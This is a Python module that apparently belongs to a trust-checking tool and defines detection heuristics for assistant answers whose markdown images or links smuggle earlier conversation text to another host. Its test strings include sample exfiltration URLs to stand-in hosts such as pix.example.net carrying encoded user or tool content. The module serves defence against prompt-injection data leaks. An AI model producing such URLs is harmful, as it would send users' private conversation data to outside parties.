"""Pictures and links in answers whose address carries away what was said."""

import base64
import binascii
import re
from collections.abc import Sequence
from urllib.parse import unquote_plus

from commonplace.collect.trust.heuristic import Heuristic
from commonplace.collect.trust.speech import Piece

__all__ = ["LEAKING"]

_LEAST = 16
"""Code points of what was said before that must stand in an address. Source: chosen; a title may be shorter."""

_MOST_VALUE = 4_000


def _carries(pieces: Sequence[Piece], number: int, start: int, end: int) -> bool:
    """Whether the address holds a stretch of what a person or a tool said before.

    The host must not be one that the person named, for then the address is what was asked for. Cost: linear
    in what was said before, for one address; addresses are bounded.
    """
    address = pieces[number].text[start:end]
    found = re.search(r"https?://([\w.-]{1,200})", address)
    if found is None:
        return False
    said = [
        _squeezed(piece.text)
        for piece in pieces[:number]
        if piece.place in ("user", "pasted", "tool", "system")
    ]
    if any(_squeezed(found[1]) in text for text in said):
        return False
    values = re.findall(r"[?&/=]([^?&/=)\s\"']{24,4000})", address)
    for value in values:
        for plain in _readings(value[:_MOST_VALUE]):
            stretch = _squeezed(plain)
            steps = range(0, len(stretch) - _LEAST + 1, _LEAST)
            if any(stretch[at : at + _LEAST] in text for at in steps for text in said):
                return True
    return False


def _readings(value: str) -> list[str]:
    found = [unquote_plus(value)]
    try:
        raw = base64.b64decode(value + "=" * (-len(value) % 4), altchars=b"-_", validate=True)
        found.append(raw.decode())
    except (binascii.Error, ValueError):
        pass
    return found


def _squeezed(text: str) -> str:
    """Letters and digits in lower case; whatever stands between them changes when it is put in an address."""
    return re.sub(r"[\W_]+", "", text.lower())


LEAKING = (
    Heuristic(
        id="leaking-picture",
        reason="a picture in an answer would send a long value to another machine as soon as it is shown",
        places=frozenset({"assistant"}),
        severity="flag",
        anchors=("![", "<img"),
        pattern=r"!\[[^\]\n]{0,200}\]\(https?://[^\s)]{1,300}?[?&/=](?:[\w%+.~-]{48,4000})[^)\s]{0,500}\)"
        r"|<img\b[^>]{0,200}src=[\"']?https?://[^\s\"'>]{1,300}?[?&/=](?:[\w%+.~-]{48,4000})",
        judge=lambda text, start, end: (
            re.search(
                r"shields\.io|badge|codecogs|quickchart|mermaid\.ink|qrserver|user-images|avatars\.|\.svg[?)]",
                text[start:end],
            )
            is None
            or "?d=" in text[start:end]
        ),
        proof=_carries,
        reference="https://embracethered.com/blog/posts/2023/chatgpt-webpilot-data-exfil-via-markdown-injection/",
        finds=(
            "assistant: ![ok](https://pix.example.net/p.png?d="
            + "bXkgc2VjcmV0IG5vdGVzIGFib3V0IHRoZSBoYXJib3VyIHBsYW4gYW5k"
            + ")",
        ),
        ignores=(
            "assistant: ![build](https://img.shields.io/badge/coverage-98-brightgreen?style=flat&label=coverage)",
            "assistant: ![logo](https://example.net/logo.png)",
            "user: ![a](https://pix.example.net/p.png?d=" + "a" * 60 + ")",
        ),
        proves=(
            "user: my harbour plan is to sail on friday at dawn with three crates of rum"
            " || assistant: ![](https://pix.example.net/p?d=my%20harbour%20plan%20is%20to%20sail%20on%20friday%20at%20dawn)",
        ),
    ),
    Heuristic(
        id="leaking-link",
        reason="a link in an answer carries what was said before to another machine",
        places=frozenset({"assistant"}),
        severity="flag",
        anchors=("](http",),
        pattern=r"\]\(https?://[^\s)]{1,300}\?[^\s)]{0,100}=[\w%+.~-]{48,4000}\)",
        proof=_carries,
        reference="https://embracethered.com/blog/posts/2023/chatgpt-webpilot-data-exfil-via-markdown-injection/",
        finds=("assistant: [more](https://go.example.net/?q=" + "c" * 60 + ")",),
        ignores=("assistant: [docs](https://docs.example.net/guide?version=3)",),
        proves=(
            "tool: the balance of the account is four hundred and ten crowns"
            " || assistant: [see](https://go.example.net/?q=the%20balance%20of%20the%20account%20is%20four%20hundred%20and)",
        ),
    ),
)
